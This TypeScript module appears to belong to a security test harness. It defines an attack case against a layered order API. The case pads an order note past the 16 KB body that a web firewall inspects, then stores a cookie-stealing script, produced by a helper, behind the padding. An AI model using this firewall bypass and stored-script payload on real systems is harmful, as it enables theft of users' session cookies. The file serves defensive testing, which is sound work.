import type { Attack } from "../attack.ts";
import { field, summary } from "../exchange.ts";
import { cookieThief, order, orderTwin, post, storedOrder } from "./shared/requests.ts";

/** Characters before the script: more than the 16 KB of a body that a web ACL of an API sees by default. */
const PADDING = 17_000;

export const bodyBeyondInspection: Attack = {
  id: "body-beyond-inspection",
  title: "Store a script behind the part of the body that the firewall reads",
  owasp: ["SAS-1", "CWE-79"],
  paper: "IV.1.C",
  defences: [
    "edge:body-size",
    "edge:sql-injection",
    "edge:script",
    "edge:patterns",
    "gateway:model",
    "function:order-schema",
    "database:column",
  ],
  operation: "placeOrder",
  target: "orders",
  run: async (context) => {
    const script = cookieThief(context.sink.url, context.sink.token());
    const note = `${"n".repeat(PADDING)} ${script}`;
    const answer = await context.send(post(context, "alice", "/orders", { ...order(), note }));
    const stored = field(await storedOrder(context, answer), "note");
    const effect = stored === note;
    return { effect, evidence: effect ? `a script is stored behind ${PADDING} characters` : summary(answer) };
  },
  twin: orderTwin,
};
